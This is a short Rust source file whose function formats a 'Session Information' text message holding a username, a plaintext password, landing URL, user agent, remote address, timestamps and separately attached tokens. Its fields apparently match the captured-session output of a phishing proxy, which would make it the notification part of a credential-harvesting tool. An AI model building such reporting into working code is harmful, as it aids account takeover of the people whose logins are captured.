use crate::session_observation::SessionObservation;

/// Builds the plain-text summary for a session. Token contents never appear
/// inline; they travel in the attachment.
pub fn format_session_message(observation: &SessionObservation) -> String {
    format!(
        "Session Information\n\
         \n\
         Username:       {}\n\
         Password:       {}\n\
         Landing URL:    {}\n\
         \n\
         User Agent:     {}\n\
         Remote Address: {}\n\
         Create Time:    {}\n\
         Update Time:    {}\n\
         \n\
         Tokens are attached separately as a text file.\n",
        observation.username,
        observation.password,
        observation.landing_url,
        observation.user_agent,
        observation.remote_addr,
        observation.create_time,
        observation.update_time,
    )
}
